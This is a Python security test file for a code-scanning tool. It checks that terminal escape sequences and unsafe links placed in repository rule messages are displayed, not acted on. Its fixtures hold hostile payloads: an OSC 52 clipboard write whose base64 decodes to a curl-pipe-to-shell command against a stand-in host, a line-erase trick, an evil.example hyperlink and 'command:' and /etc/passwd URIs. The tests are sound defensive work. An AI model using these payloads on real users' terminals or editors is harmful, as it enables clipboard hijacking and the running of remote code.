"""Finding 9: repository rule messages carrying terminal escape sequences (OSC 52
clipboard write, line erase, OSC 8 link) reach neither the terminal of `scan`
nor that of the commit gate; a `command:` link never reaches the editor."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from tests.conftest import git
from tests.security.conftest import GENGUARD
from tests.security.rpc import run_measured

from genguard.lsp.convert import lsp_diagnostic
from genguard.rules.workspace import load_repository_rules
from genguard.session.present import DiagnosticInfo
from genguard.text.terminal import terminal_safe

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
ERASE = "\x1b[2K\r"
LINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
HOSTILE = f"look here{CLIPBOARD}{ERASE}all clear {LINK}"
RULE = f"""rules:
  - id: acme-marker
    languages: [python]
    severity: error
    message: "{HOSTILE.encode("unicode_escape").decode()}"
    regex: 'MARKER_[0-9]+'
"""


def _repo_with_rule(repo: Path) -> None:
    rules = repo / ".genguard" / "rules"
    rules.mkdir(parents=True)
    (rules / "acme.yaml").write_text(RULE)


def test_terminal_safe_shows_controls_and_keeps_text():
    assert terminal_safe(HOSTILE).isprintable()
    assert "\\x1b]52;c;" in terminal_safe(HOSTILE)
    assert terminal_safe("tab\tand\nnewline") == "tab\tand\nnewline"
    assert terminal_safe("abc\u202edef") == "abc\\u202edef"  # bidi override


@pytest.mark.usefixtures("isolated_git")
def test_scan_prints_no_escape_from_the_repository(repo: Path):
    _repo_with_rule(repo)
    (repo / "a.py").write_text("x = 'MARKER_1'\n")
    # colours forced on: rich's own escapes are allowed, the repository's are not
    env = {**os.environ, "FORCE_COLOR": "1", "TERM": "xterm-256color"}
    rc, out, _ = run_measured([*GENGUARD, "scan", "--no-cache", "."], repo, env=env)
    assert rc == 1, out
    assert "acme-marker" in out and "look here" in out
    assert "\x1b[" in out  # colours still work
    assert "\x1b]" not in out and "\x07" not in out  # no OSC: clipboard, links
    (line,) = [line for line in out.split("\n") if "acme-marker" in line]
    line = line[line.index("a.py:1") :]  # after the progress bar's own clean-up on stderr
    assert "\x1b[2K" not in line and "\r" not in line  # nothing erases the finding
    assert "\\x1b]52;c;" in out  # shown, not acted on


@pytest.mark.usefixtures("isolated_git")
def test_commit_gate_prints_no_escape_from_the_repository(repo: Path):
    from tests.git.conftest import ai_write

    from genguard.gitio.run import Git
    from genguard.hooks.install import install_hooks

    (repo / "README.md").write_text("# demo\n")
    (repo / ".genguard.toml").write_text("[hooks]\ntimeout = 60\n")
    _repo_with_rule(repo)
    git(repo, "add", ".")
    git(repo, "commit", "-qm", "initial")
    assert install_hooks(Git(repo)).ok
    ai_write(repo, "a.py", "def f():\n    return 'MARKER_2'\n")
    rc, out, _ = run_measured(["git", "commit", "-qm", "add a"], repo, env=dict(os.environ))
    assert rc != 0, out  # blocked by the repository's error-level rule
    assert "acme-marker" in out and "look here" in out
    assert "\x1b" not in out and "\x07" not in out


def test_only_https_links_reach_the_editor(tmp_path: Path):
    rules = tmp_path / ".genguard" / "rules"
    rules.mkdir(parents=True)
    (rules / "links.yaml").write_text(
        "rules:\n"
        "  - id: acme-cmd\n    languages: [python]\n    severity: warning\n"
        "    message: m\n    regex: 'A'\n    url: 'command:workbench.action.terminal.new'\n"
        "  - id: acme-doc\n    languages: [python]\n    severity: warning\n"
        "    message: m\n    regex: 'B'\n    url: 'https://wiki.example/rules/acme-doc'\n"
    )
    loaded = load_repository_rules(rules)
    assert [r.id for r in loaded.rules] == ["acme-doc"]
    (error,) = loaded.errors
    assert error.rule_id == "acme-cmd" and "https://" in error.message

    def diagnostic(href: str) -> object:
        info = DiagnosticInfo(((0, 0), (0, 1)), "warning", "x", "m", href=href)
        return lsp_diagnostic(info, "file:///a.py").code_description

    assert diagnostic("command:workbench.action.terminal.new") is None
    assert diagnostic("file:///etc/passwd") is None
    assert diagnostic("https://wiki.example/rules/acme-doc").href.startswith("https://")
